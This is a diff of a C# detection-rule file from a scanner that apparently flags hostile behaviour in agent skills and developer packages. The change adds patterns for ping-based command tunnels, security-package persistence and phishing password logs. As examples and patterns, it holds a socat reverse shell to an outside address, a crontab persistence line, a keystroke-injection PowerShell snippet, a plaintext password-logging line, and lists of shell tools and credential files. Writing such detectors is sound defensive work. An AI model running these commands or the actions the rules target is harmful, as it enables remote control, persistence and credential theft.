@@ -1,7 +1,7 @@
 namespace Symbiont.Scanning.Rules;
 
 /// <summary>Beyond the 40: what campaigns against agents and developers do besides.</summary>
-internal static class BehaviorRules
+internal static partial class BehaviorRules
 {
     private const string Secret = @"(?:\.env\b|\.ssh\b|id_rsa|\.aws\b|credentials|\bprintenv\b|\benv\b|secrets?\b|tokens?\b|passwords?\b|api[_-]?keys?|\.pem\b|wallet|keychain|cookies|/etc/passwd|shadow|history|\.kube\b|\.netrc|os\.environ\b|process\.env\b|MEMORY\.md|SOUL\.md|conversation|openclaw\.json|clawdbot\.json|auth-profiles)";
 
@@ -57,7 +57,7 @@ internal static class BehaviorRules
 
         Rule("reverse-shell-other", Severity.Critical, "A program in another language, or a tool, ties a shell to the network.",
             "Whoever listens at the other end types commands on this machine.", "Remove it.", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", Severity.High,
-            ["socat", "fsockopen", "net.socket", "net.connect", "createconnection", "tcpclient", "net.dial", "telnet", "/inet/tcp", "socket.tcp", "s_client", "lua", "child_process", "msfvenom", "meterpreter", "pwncat", "chisel", "reverse_tcp", "bind_tcp"],
+            ["socat", "fsockopen", "net.socket", "net.connect", "createconnection", "tcpclient", "net.dial", "telnet", "/inet/tcp", "socket.tcp", "s_client", "lua", "child_process", "msfvenom", "meterpreter", "pwncat", "chisel", "networkinformation.ping", "ipproto_icmp", "reverse_tcp", "bind_tcp"],
             [
                 new(@"\bsocat\b[^\n;]*(?:EXEC|SYSTEM):[^\n;]*(?:sh\b|cmd)[^\n;]*|\bsocat\b[^\n;]*TCP[^\n;]*(?:EXEC|SYSTEM):[^\n;]*"),
                 new(@"\bfsockopen\s*\([^\n]*(?:exec|proc_open|popen|shell_exec|system|/bin/(?:ba)?sh|`)[^\n]*"),
@@ -66,6 +66,9 @@ internal static class BehaviorRules
                 new(@"\bspawn\s*\(\s*[""'`](?:/bin/)?(?:ba|z)?sh\b") { Also = [@"\bnet\.(?:Socket|connect|createConnection)\b|new\s+net\.Socket|\.connect\s*\(\s*\d{2,5}", @"\.pipe\s*\("], Within = 25 },
                 new(@"[""'`](?:/bin/(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)[""'`]") { Also = [@"\bnet\.(?:Socket|connect|createConnection)\b", @"\.pipe\s*\(\s*\w+\.stdin\s*\)"], Within = 20 },
                 new(@"\bTcpClient\s*\(\s*[""'][^\n]*") { Also = [@"GetStream\s*\(", @"\b(?:iex|Invoke-Expression)\b|cmd\.exe|powershell"], Within = 20 },
+                // Commands and their output go by as the data of pings.
+                new(@"\bNetworkInformation\.Ping\b") { Also = [@"\.Buffer\b", @"\b(?:iex|Invoke-Expression)\b"], Within = 60 },
+                new(@"\bIPPROTO_ICMP\b") { Also = [@"\brecv\w*\s*\(", @"\bos\.popen\s*\(|\bsubprocess\.\w+\s*\([^\n]*shell\s*=\s*True|\bpopen\s*\("], Within = 60 },
                 new(@"\bnet\.Dial\s*\(\s*""(?:tcp|udp)""[^\n]*") { Also = [@"exec\.Command\s*\(\s*""(?:/bin/)?(?:ba)?sh""|exec\.Command\s*\(\s*""cmd"], Within = 20 },
                 new(@"\btelnet\s+[^\n;|]*\d+\s*\|\s*(?:" + Fragments.Shell + @")\b[^\n]*\|\s*telnet|/inet/tcp/0/[^\n]*(?:getline|cmd|\|&)|openssl\s+s_client\s+[^\n]*\|\s*(?:" + Fragments.Shell + @")|(?:" + Fragments.Shell + @")[^\n;]*\|\s*openssl\s+s_client\b[^\n]*"),
                 new(@"\blua\b[^\n]*socket[^\n]*(?:io\.popen|os\.execute)[^\n]*|\b(?:msfvenom|meterpreter|pwncat|reverse_tcp|bind_tcp)\b[^\n]*"),
@@ -102,7 +105,7 @@ internal static class BehaviorRules
         Rule("persistence", Severity.High, "Arranges to be started again: at login, by the clock, or for whoever logs in.",
             "It stays when the skill is removed.", "Let the user set up what runs at start, and say how to take it away.",
             "(crontab -l; echo '* * * * * /tmp/a') | crontab -", Severity.Low,
-            ["crontab", "cron.", "launchagents", "launchdaemons", "launchctl", "systemctl", ".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", "authorized_keys", "rc.local", "currentversion\\run", "schtasks", "startup", "autostart", ".git/hooks", "core.hookspath", "/etc/profile", "systemd/", "login items", ".zshenv", "pam.d"],
+            ["crontab", "cron.", "securitypackage", " packages", "launchagents", "launchdaemons", "launchctl", "systemctl", ".bashrc", ".zshrc", ".profile", ".bash_profile", ".zprofile", "authorized_keys", "rc.local", "currentversion\\run", "schtasks", "startup", "autostart", ".git/hooks", "core.hookspath", "/etc/profile", "systemd/", "login items", ".zshenv", "pam.d"],
             [
                 new(@"\|\s*crontab\s+-|\bcrontab\s+[^\s;|&-][^\n;|]*|(?:>>?|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\b|\bopen\s*\(|\bwrite\w*\s*\()[^\n;]*/etc/cron\.\w+/\S+|>>?\s*[""']?/(?:etc/crontab|var/spool/cron)\S*") { Except = @"crontab\s+(?:-l|-e|file|entry|entries|is|and|or|to|for|in|syntax|expression|format|job|jobs|line)\b" },
                 new(@"(?:>>?|\btee\b|\bcp\b|\bmv\b|\bln\b|\bcat\b[^\n]*>|write\w*\s*\(|open\s*\()[^\n;]*(?:Library/Launch(?:Agents|Daemons)|\.config/autostart|systemd/(?:user|system)/[\w.-]+\.(?:service|timer)|/etc/rc\.local|/etc/profile(?:\.d)?|\.config/systemd|/etc/pam\.d|Start Menu\\Programs\\Startup)[^\n;]*"),
@@ -110,6 +113,7 @@ internal static class BehaviorRules
                 new(@"\bSpecialFolders\s*\(\s*""(?:AllUsers)?Startup""\s*\)") { Also = [@"\bWScript\.ScriptFullName\b"], Within = 12 },
                 // Nothing is appended by a redirection that begins a text.
                 new(@"(?:(?:^|[^\s""'`(\[,][""'`]?|\+\s*[""'`])\s*>>|\btee\s+-a)\s*[""']?\S*(?:\.bashrc|\.zshrc|\.profile|\.bash_profile|\.zprofile|\.zshenv)\b[^\n]*"),
+                new(@"\bAddSecurityPackage[AW]?\s*\(|(?:\breg(?:\.exe)?\s+add\b|(?:Set|New)-ItemProperty\b|\.SetValue\s*\()[^\n]*(?:Security|Notification|Authentication)\sPackages\b[^\n]*"),
                 new(@"(?:>>?|\btee\b|append\w*|write\w*|\bcp\b|open\s*\()[^\n;]*authorized_keys[^\n;]*"),
                 new(@"CurrentVersion\\+(?:Run(?:Once)?|Winlogon|Image File Execution Options)\b[^\n]*") { Also = [@"\breg(?:\.exe)?[""',\s]+add\b|(?:Set|New)-ItemProperty|RegSetValue|RegWrite|\.SetValue\s*\(|SetValueEx|CreateSubKey|CreateKey|winreg\.\w*Set"], Within = 60 },
                 new(@"\bschtasks\b[^\n]*/create[^\n]*|Register-ScheduledTask[^\n]*|New-Service\b[^\n]*"),
@@ -193,14 +197,6 @@ internal static class BehaviorRules
             ["/environ"],
             [new(@"/proc/(?:\d+|self|\*|\$\{?\w+\}?|\{\w+\}|%d|\[0-9\]\*?|1)/environ\b")]),
 
-        Rule("typed-commands", Severity.High, "A device that says it is a keyboard opens a terminal and types commands.", "Nobody has typed them; the machine believes that its user did.",
-            "Have the user start a script that can be read.", "DELAY 500\nGUI r\nSTRING powershell -w hidden\nENTER", Severity.High,
-            ["string", "key_left_gui", "mod_gui", "keycode."],
-            [
-                new(@"^\s*STRING(?:LN)?\s+[^\n]{0,40}?" + Typed + @"[^\n]*") { Also = [@"(?:^|\n)\s*(?:ENTER\s*(?:\n|$)|DELAY\s+\d+)"], Within = 3 },
-                new(@"\bKEY_LEFT_GUI\b|\bMOD_GUI\w*|\bKeycode\.(?:GUI|WINDOWS|COMMAND)\b") { Also = [@"\b(?:(?:Digi)?Keyboard\.(?:print(?:ln)?|write)|layout\.write)\s*\(\s*(?:F\s*\(\s*)?[""'][^\n""']{0,40}?" + Typed], Within = 40 },
-            ]),
-
         Rule("typed-password-kept", Severity.High, "A page writes passwords down as they were typed.", "Whoever reads the file has them; who checks a password keeps only what cannot be turned back.",
             "Keep a salted hash, made for passwords, and compare with that.", "file_put_contents('log.txt', $_POST['password'], FILE_APPEND);", Severity.Low,
             ["$_post", "$_request", "$_get"],
@@ -209,6 +205,12 @@ internal static class BehaviorRules
                 {
                     Also = [@"\b(?:file_put_contents|fwrite|fputs)\s*\([^\n]*(?:\$_(?:POST|REQUEST|GET)|\$\w*(?:pass|pwd|log|data|line|text|body|entry|cred|msg|message|content|info)\w*)"],
                     Within = 15,
+                    Unless = @"\bpassword_(?:hash|verify)\s*\(|\bcrypt\s*\(|\bhash_(?:hmac|equals)\s*\(",
+                },
+                new(@"\$_(?:POST|REQUEST|GET)\s*\[\s*[""'](?:pass\w*|pwd|pin|otp|cvv2?|cvc)[""']\s*\]")
+                {
+                    Also = [@"[""'][^""'\n]*(?:creds?|credentials|passwords?|victims?|loot)[^""'\n]*\.(?:json|txt|log|csv|html?)[""']", @"\b(?:file_put_contents|fwrite|fputs)\s*\("],
+                    Within = 60,
                     Unless = @"\bpassword_(?:hash|verify)\s*\(|\bcrypt\s*\(|\bhash_(?:hmac|equals)\s*\(",
                 },
             ]),
@@ -229,10 +231,9 @@ internal static class BehaviorRules
                 new(@"\bkeyboard\.Listener\s*\(|\bGetAsyncKeyState\b|\bSetWindowsHookEx\w*\b|\bCGEventTapCreate\b|\bkeylogger\b[^\n]*(?:start|log|=|\()"),
                 new(@"\b(?:pbpaste|xclip\s+[^\n;|]*-o\b|wl-paste)\b[^\n;]*\|\s*(?:[^\n|;]*\|\s*)?(?:curl|nc|wget)\b[^\n]*|\bImageGrab\.grab\b[^\n]*") { Except = @"^ImageGrab\.grab\s*\(\s*\)?\s*$" },
             ]),
-    ];
 
-    /// <summary>What is opened to type commands into.</summary>
-    private const string Typed = @"(?:powershell|pwsh|cmd\b|terminal|xterm|bash\b|sudo\b|curl\b|wget\b|python\d?\b|mshta|reg\s|netsh|certutil|osascript|iex\b|invoke-\w|\$\w+\s*=)";
+        .. ToolsOfAttack(),
+    ];
 
     private static ScanRule Rule(string name, Severity severity, string description, string why, string repair, string example, Severity documented, string[] anchors, RulePattern[] patterns, EverydayUse[]? everyday = null) =>
         new(new(name, Categories.Behavior, severity, description, why, repair), example)
